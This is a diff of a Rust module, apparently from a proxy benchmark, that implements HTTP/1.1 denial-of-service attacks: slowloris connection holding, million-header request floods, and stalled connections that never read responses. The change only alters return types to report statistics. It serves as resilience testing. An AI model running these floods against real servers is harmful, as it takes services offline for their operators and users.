@@ -1,14 +1,15 @@
 //! Attacks by HTTP/1.1.
 
-use super::Pace;
+use super::{Done, Pace};
 use std::io::{ErrorKind, Read, Write};
 use std::net::{SocketAddr, TcpStream};
 use std::time::Duration;
 
 /// Heads that never end.
-pub(super) fn slowloris(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
+pub(super) fn slowloris(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
     const CONNECTIONS: usize = 2000;
     let (mut held, mut bytes, mut turn) = (Vec::with_capacity(CONNECTIONS), 0, 0);
+    let start: &[u8] = b"GET / HTTP/1.1\r\nhost: bench.example\r\n";
     let line = b"x-header: slow\r\n";
     while !pace.over() {
         // Those that the proxy closed are opened again, a few at a time.
@@ -17,7 +18,7 @@ pub(super) fn slowloris(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
                 && let Ok(mut s) = TcpStream::connect(to)
             {
                 s.set_nonblocking(true)?;
-                let _ = s.write_all(b"GET / HTTP/1.1\r\nhost: bench.example\r\n");
+                bytes += s.write(start).unwrap_or(0) as u64;
                 held.push(s);
             }
         }
@@ -29,7 +30,7 @@ pub(super) fn slowloris(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
         let step = if held.len() < CONNECTIONS { 50 } else { 1000 };
         std::thread::sleep(Duration::from_millis(step));
     }
-    Ok(bytes)
+    Ok(Done { held: held.len(), times: turn as u64, bytes })
 }
 
 /// Whether the other side has closed.
@@ -41,24 +42,26 @@ fn over(s: &mut TcpStream) -> bool {
 }
 
 /// Requests with a million headers, as far as the proxy lets them come.
-pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
-    let (block, mut requests) = (b"a: b\r\n".repeat(10_000), 0);
+pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
+    let (block, mut requests, mut bytes) = (b"a: b\r\n".repeat(10_000), 0, 0);
     while pace.wait(requests, 50.0) {
         let mut s = TcpStream::connect(to)?;
         s.set_write_timeout(Some(Duration::from_secs(1)))?;
         let mut whole = s.write_all(b"GET / HTTP/1.1\r\nhost: bench.example\r\n").is_ok();
         for _ in 0..100 {
             whole = whole && !pace.over() && s.write_all(&block).is_ok();
+            bytes += if whole { block.len() as u64 } else { 0 };
         }
         requests += 1;
     }
-    Ok(requests)
+    Ok(Done { held: 0, times: requests, bytes })
 }
 
 /// Answers that nobody reads.
-pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<u64> {
+pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
     let request = b"GET /big HTTP/1.1\r\nhost: bench.example\r\n\r\n".repeat(20);
-    hold(500, to, pace, |s| s.write_all(&request))
+    let held = hold(500, to, pace, |s| s.write_all(&request))?;
+    Ok(Done { held, times: 20 * held as u64, bytes: (request.len() * held) as u64 })
 }
 
 /// Opens connections with small receive buffers, sends on each of them once, and holds them all, reading nothing.
@@ -67,7 +70,7 @@ pub(super) fn hold(
     to: SocketAddr,
     pace: &Pace,
     ask: impl Fn(&mut TcpStream) -> std::io::Result<()>,
-) -> anyhow::Result<u64> {
+) -> anyhow::Result<usize> {
     let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
     let mut held = vec![];
     for _ in 0..count {
@@ -87,5 +90,5 @@ pub(super) fn hold(
     while !pace.over() {
         std::thread::sleep(Duration::from_millis(100));
     }
-    Ok(held.len() as u64)
+    Ok(held.len())
 }
